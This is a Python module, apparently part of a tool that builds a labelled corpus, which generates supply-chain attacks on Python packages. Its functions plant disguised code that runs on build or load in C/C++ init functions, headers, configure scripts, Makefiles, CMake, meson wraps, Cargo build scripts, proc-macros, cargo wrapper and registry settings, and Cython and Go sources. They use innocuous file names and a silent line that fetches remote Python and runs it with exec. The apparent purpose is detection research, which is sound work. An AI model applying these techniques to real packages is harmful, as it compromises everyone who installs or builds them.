"""Payloads in sources that a build compiles (C, C++, Rust, Cython, Go), and in what configures a build."""

import json
import re

from jobs.corpus.payloads.blocks import choose_block
from jobs.corpus.payloads.commands import choose_command, spell_command
from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.declarations import with_build_system
from jobs.corpus.payloads.draft import BRING_SHARE, Draft

_MAX_SOURCE = 400_000
_INIT = re.compile(r"(PyMODINIT_FUNC\s+\w+\s*\([^)]*\)\s*\{)")
_INCLUDE = re.compile(r"^[ \t]*#[ \t]*include[^\n]*\n", re.MULTILINE)
_EXTENSIONS = ("_speedups", "_cfast", "_accel", "_ckernel", "_tokens", "_hashing")


def _text(draft: Draft, kind: str) -> str:
    block = choose_block("compiled", draft.words.split, draft.rng, kind)
    draft.act = block.name
    text = spell_command(draft.words.render(block.text), choose_command(draft), draft.rng)
    code = f"import urllib.request as u\ntry:\n    exec(u.urlopen({draft.words.render('@url@')!r}).read())\nexcept Exception:\n    pass\n"
    if "@PYTHON@" in text and draft.rng.random() < 0.6:
        code = draft.code()
    lines = code.splitlines(keepends=True)
    return text.replace("@PYTHON@", "\n        ".join(json.dumps(line) for line in lines))


def _read(draft: Draft, path: str) -> str:
    return draft.files[path].decode("utf-8", "surrogateescape")


def _write(draft: Draft, path: str, text: str) -> None:
    draft.put(path, text.encode("utf-8", "surrogateescape"))


def _declare(draft: Draft, name: str, source: str, *, language: str = "") -> None:
    """Let setup.py build a new extension module."""
    path = f"{draft.root}setup.py"
    before = draft.files.get(path, b"from setuptools import setup\n\nsetup()\n").decode("utf-8", "replace")
    if "setup(" not in before or "ext_modules" in before:
        raise draft.fail("has no call of setup that takes an extension module")
    extra = f", language={language!r}" if language else ""
    call = f"setup(\n    ext_modules=[Extension({name!r}, [{source!r}]{extra})],\n    "
    draft.put_aside(path, "from setuptools import Extension\n" + before.replace("setup(", call, 1))


def _after_includes(source: str, text: str) -> str:
    includes = list(_INCLUDE.finditer(source))
    at = includes[-1].end() if includes and includes[-1].end() < len(source) // 2 else 0
    return f"{source[:at]}\n{text}\n{source[at:]}"


def _extension(draft: Draft, name: str, text: str, call: str) -> str:
    method = draft.words.name()
    return (
        f"#define PY_SSIZE_T_CLEAN\n#include <Python.h>\n\n{text}\n"
        f"static PyObject *{method}_sum(PyObject *self, PyObject *args) {{\n    long a, b;\n"
        '    if (!PyArg_ParseTuple(args, "ll", &a, &b)) return NULL;\n    return PyLong_FromLong(a + b);\n}\n\n'
        f'static PyMethodDef methods[] = {{{{"add", {method}_sum, METH_VARARGS, "Add."}}, {{NULL, NULL, 0, NULL}}}};\n'
        f'static struct PyModuleDef module = {{PyModuleDef_HEAD_INIT, "{name}", NULL, -1, methods}};\n\n'
        f"PyMODINIT_FUNC PyInit_{name}(void) {{\n{call}    return PyModule_Create(&module);\n}}\n"
    )


def c_module_init(draft: Draft) -> None:
    """Call a new function where a module in C is initialised."""
    path = draft.find_file(".c", ".cpp", ".cc", holds=b"PyMODINIT_FUNC")
    text, call = _text(draft, "c-module-init"), draft.words.render("    @n1@();\n")
    if not path:
        name = draft.rng.choice(_EXTENSIONS)
        draft.put_new(f"{draft.root}src/{name}.c", _extension(draft, name, text, call))
        _declare(draft, name, f"src/{name}.c")
        return
    source = _read(draft, path)
    changed = _INIT.sub(lambda m: f"{m[1]}\n{call}", source, count=1)
    if changed == source:
        raise draft.fail("has no function that initialises a module")
    _write(draft, path, _after_includes(changed, text))


def c_embedded_python(draft: Draft) -> None:
    """Execute Python text from a source in C."""
    path = draft.find_file(".c", ".cpp", holds=b"Python.h")
    text = _text(draft, "c-embedded-python")
    if path:
        _write(draft, path, _after_includes(_read(draft, path), text))
        return
    name = draft.rng.choice(_EXTENSIONS)
    draft.put_new(f"{draft.root}src/{name}.c", _extension(draft, name, text, ""))
    _declare(draft, name, f"src/{name}.c")


def cpp_static_object(draft: Draft) -> None:
    """Bring an object in C++ whose construction acts, at the end of a source or in one of its own."""
    path = draft.find_file(".cpp", ".cc", ".cxx")
    text = _text(draft, "cpp-static-object")
    if path:
        _write(draft, path, f"{_read(draft, path).rstrip()}\n\n{text}")
        return
    name = draft.rng.choice(_EXTENSIONS)
    draft.put_new(f"{draft.root}{name}.cpp", _extension(draft, name, text, ""))
    _declare(draft, name, f"{name}.cpp", language="c++")


def c_header(draft: Draft) -> None:
    """Bring a header whose function the loader runs, or put it into one that is there."""
    text = _text(draft, "c-header")
    headers = sorted(p for p in draft.files if p.endswith((".h", ".hpp")) and len(draft.files[p]) < _MAX_SOURCE)
    if headers and draft.rng.random() < 0.5:
        path = draft.rng.choice(headers)
        _write(draft, path, f"{_read(draft, path).rstrip()}\n\n{text}")
        return
    path = draft.find_file(".c", ".cpp", ".cc", ".h")
    folder = path.rpartition("/")[0] or f"{draft.root}src"
    header = draft.rng.choice(("compat.h", "config_ext.h", "pyport_fix.h", "platform.h"))
    draft.put_new(f"{folder}/{header}", text)
    if path:
        draft.put_aside(
            path,
            _after_includes(_read(draft, path), f'#include "{header}"\n').encode("utf-8", "surrogateescape"),
        )
        return
    name = draft.rng.choice(_EXTENSIONS)
    draft.put_aside(f"{folder}/{name}.c", _extension(draft, name, f'#include "{header}"\n', ""))
    _declare(draft, name, f"src/{name}.c")


def configure_script(draft: Draft) -> None:
    """Bring or change a configure script, a Makefile or a script beside them."""
    text = _text(draft, "configure-script")
    names = ("configure", "autogen.sh", "bootstrap.sh", "build.sh", "compile.sh")
    found = sorted(p for p in draft.files if p.removeprefix(draft.root) in names)
    body = text.partition("\n")[2]
    if found:
        _write(draft, found[0], f"{_read(draft, found[0]).rstrip()}\n{body}")
        return
    make = f"{draft.root}Makefile"
    if make in draft.files and draft.rng.random() < 0.6:
        line = choose_command(draft).replace("$", "$$")
        _write(draft, make, f"{_read(draft, make).rstrip()}\n\n.PHONY: deps\nall install: deps\ndeps:\n\t@{line}\n")
        return
    name = draft.rng.choice(names[:3])
    draft.put_new(f"{draft.root}{name}", text)
    setup = f"{draft.root}setup.py"
    if setup in draft.files:
        draft.insert(setup, f"import subprocess\nsubprocess.call(['sh', './{name}'])\n", aside=True)


def cmake_fetch(draft: Draft) -> None:
    """Let CMake download something and start it."""
    text = _text(draft, "cmake-fetch")
    found = sorted(p for p in draft.files if p.endswith(("CMakeLists.txt", ".cmake")))
    if found:
        path = min(found, key=lambda p: (p.count("/"), p))
        _write(draft, path, f"{_read(draft, path).rstrip()}\n\n{text}")
        return
    head = "cmake_minimum_required(VERSION 3.18)\nproject(core LANGUAGES C CXX)\n\n"
    draft.put_new(f"{draft.root}CMakeLists.txt", head + text)
    _set_backend(draft, 'requires = ["scikit-build-core>=0.9"]\nbuild-backend = "scikit_build_core.build"\n')


def _set_backend(draft: Draft, lines: str) -> None:
    path = f"{draft.root}pyproject.toml"
    draft.put_aside(path, with_build_system(draft.files.get(path, b""), lines))


def meson_wrap(draft: Draft) -> None:
    """Let meson take a sub-project from an address and run a command."""
    text = _text(draft, "meson-wrap")
    name = draft.words.render("@word@")
    path = f"{draft.root}meson.build"
    head = "project('core', 'c', version: '1.0', meson_version: '>=1.1')\n"
    before = _read(draft, path) if path in draft.files else head
    _write(draft, path, f"{before.rstrip()}\n\n{text}")
    draft.put_new(
        f"{draft.root}subprojects/{name}.wrap",
        draft.words.render(
            f"[wrap-file]\ndirectory = {name}-1.2.0\nsource_url = @url@/{name}-1.2.0.tar.gz\nsource_filename = {name}.tar.gz\n"
            f"source_hash = {draft.rng.randbytes(32).hex()}\n"
        ),
    )
    if path not in draft.package.files():
        _set_backend(draft, 'requires = ["meson-python"]\nbuild-backend = "mesonpy"\n')


def _cargo(draft: Draft, more: str = "") -> str:
    """Return the folder of the host's crate; a host without one is given one, with `more` in its Cargo.toml."""
    found = sorted(p for p in draft.files if p.endswith("Cargo.toml"))
    if found:
        return min(found, key=lambda p: (p.count("/"), p)).removesuffix("Cargo.toml")
    if draft.rng.random() > BRING_SHARE:
        raise draft.fail("has no crate")
    name = f"{draft.import_name.rpartition('.')[2]}-core"
    draft.put_aside(
        f"{draft.root}Cargo.toml",
        f'[package]\nname = "{name}"\nversion = "0.1.0"\nedition = "2021"\n\n[lib]\ncrate-type = ["cdylib"]\n\n'
        f'[dependencies]\npyo3 = {{ version = "0.22", features = ["extension-module"] }}\n{more}',
    )
    _set_backend(draft, 'requires = ["maturin>=1.5,<2"]\nbuild-backend = "maturin"\n')
    return draft.root


_LIBRARY = "use pyo3::prelude::*;\n\n#[pyfunction]\nfn add(a: i64, b: i64) -> i64 {\n    a + b\n}\n\n#[pymodule]\nfn core(m: &Bound<'_, PyModule>) -> PyResult<()> {\n    m.add_function(wrap_pyfunction!(add, m)?)\n}\n"


def rust_build_fetch(draft: Draft) -> None:
    """Bring a build script of Cargo that fetches, starts or sends, or put that into the one that is there."""
    text, folder = _text(draft, "rust-build-fetch"), _cargo(draft, '\n[build-dependencies]\nureq = "2"\n')
    path = f"{folder}build.rs"
    if path in draft.files:
        body = text.replace("fn main()", draft.words.render("fn @n8@()"))
        before = _read(draft, path)
        changed = re.sub(r"(fn main\(\)[^{]*\{)", lambda m: draft.words.render(f"{m[1]}\n    @n8@();"), before, count=1)
        _write(draft, path, f"{changed.rstrip()}\n\n{body}")
        return
    draft.put(path, text)
    if f"{folder}src/lib.rs" not in draft.files:
        draft.put_aside(f"{folder}src/lib.rs", _LIBRARY)


def rust_library(draft: Draft) -> None:
    """Put a function that runs when the library is loaded into a Rust source."""
    text, folder = _text(draft, "rust-library"), _cargo(draft, 'ctor = "0.2"\n')
    found = sorted(p for p in draft.files if p.startswith(folder) and p.endswith("src/lib.rs"))
    path = found[0] if found else f"{folder}src/lib.rs"
    before = _read(draft, path) if found else _LIBRARY
    _write(draft, path, f"{before.rstrip()}\n\n{text}")


def rust_proc_macro(draft: Draft) -> None:
    """Bring a crate of macros, which acts while the host's crate is compiled."""
    text, folder = _text(draft, "rust-proc-macro"), _cargo(draft)
    name = draft.words.render("@word@-derive")
    draft.put_new(f"{folder}crates/{name}/src/lib.rs", text)
    draft.put_aside(
        f"{folder}crates/{name}/Cargo.toml",
        f'[package]\nname = "{name}"\nversion = "0.1.0"\nedition = "2021"\n\n[lib]\nproc-macro = true\n',
    )
    manifest = f"{folder}Cargo.toml"
    line = f'[dependencies]\n{name} = {{ path = "crates/{name}" }}\n'
    draft.put_aside(manifest, _read(draft, manifest).replace("[dependencies]\n", line, 1).encode())


def cargo_settings(draft: Draft) -> None:
    """Bring settings of Cargo that wrap the compiler or take crates from elsewhere, or a dependency by address."""
    folder = _cargo(draft)
    draft.act = draft.rng.choice(("wrapper", "registry", "git-dependency", "linker"))
    if draft.act == "git-dependency":
        manifest = f"{folder}Cargo.toml"
        name = draft.words.render("@word@-sys")
        line = draft.words.render(f'[dependencies]\n{name} = {{ git = "https://@domain@/@word1@/{name}" }}\n')
        changed = _read(draft, manifest).replace("[dependencies]\n", line, 1)
        if name not in changed:
            raise draft.fail("declares no crates")
        _write(draft, manifest, changed)
        return
    texts = {
        "wrapper": '[build]\nrustc-wrapper = "./tools/cache.sh"\n',
        "linker": '[target.x86_64-unknown-linux-gnu]\nlinker = "./tools/cache.sh"\n',
        "registry": '[source.crates-io]\nreplace-with = "@word@"\n\n[source.@word@]\nregistry = "sparse+@url@/index/"\n',
    }
    draft.put_new(f"{folder}.cargo/config.toml", draft.words.render(texts[draft.act]))
    if draft.act != "registry":
        draft.put_new(f"{folder}tools/cache.sh", f'#!/bin/sh\n{choose_command(draft)}\nexec "$@"\n')


def cython_module(draft: Draft) -> None:
    """Put code into a module in Cython, or bring one."""
    path = draft.find_file(".pyx")
    text = _text(draft, "cython-module")
    if path:
        _write(draft, path, f"{_read(draft, path).rstrip()}\n\n{text}")
        return
    name = draft.rng.choice(_EXTENSIONS)
    draft.put_new(f"{draft.folder}{name}.pyx", f"{text}\n\ncpdef long add(long a, long b):\n    return a + b\n")
    _declare(draft, f"{draft.import_name}.{name}", f"{draft.folder.removeprefix(draft.root)}{name}.pyx")


def go_source(draft: Draft) -> None:
    """Bring a source in Go that acts when its library is loaded or built."""
    path = draft.find_file(".go")
    text = _text(draft, "go-source")
    folder = path.rpartition("/")[0] or f"{draft.root}go"
    draft.put_new(f"{folder}/{draft.words.render('@word@')}_init.go", text)
    if not path:
        draft.put_aside(f"{folder}/go.mod", "module core\n\ngo 1.22\n")
        draft.put_aside(f"{folder}/main.go", 'package main\n\nimport "C"\n\n//export Add\nfunc Add(a, b int) int { return a + b }\n\nfunc main() {}\n')  # fmt: skip
        setup = f"{draft.root}setup.py"
        if setup in draft.files:
            line = "import subprocess\nsubprocess.check_call(['go', 'build', '-buildmode=c-shared', '-o', 'core.so', './go'])\n"
            draft.insert(setup, line, aside=True)


FAMILIES = (
    Family("c-module-init", "foreign", "train", c_module_init, "sdist", "plain", takes_trigger=False),
    Family("c-embedded-python", "foreign", "train", c_embedded_python, "sdist", "text-in-c"),
    Family("cpp-static-object", "foreign", "train", cpp_static_object, "sdist", "plain", takes_trigger=False),
    Family("c-header", "foreign", "train", c_header, "sdist", "plain", takes_trigger=False),
    Family("configure-script", "backend", "train", configure_script, "sdist", "plain", takes_trigger=False),
    Family("cmake-fetch", "backend", "train", cmake_fetch, "sdist", "plain", takes_trigger=False),
    Family("meson-wrap", "backend", "train", meson_wrap, "sdist", "plain", takes_trigger=False),
    Family("rust-build-fetch", "foreign", "train", rust_build_fetch, "sdist", "plain", takes_trigger=False),
    Family("rust-library", "foreign", "train", rust_library, "sdist", "plain", takes_trigger=False),
    Family("rust-proc-macro", "foreign", "train", rust_proc_macro, "sdist", "plain", takes_trigger=False),
    Family("cargo-settings", "settings", "train", cargo_settings, "sdist", "plain", takes_trigger=False),
    Family("cython-module", "foreign", "train", cython_module, "sdist", "plain", takes_trigger=False),
    Family("go-source", "foreign", "train", go_source, "sdist", "plain", takes_trigger=False),
)
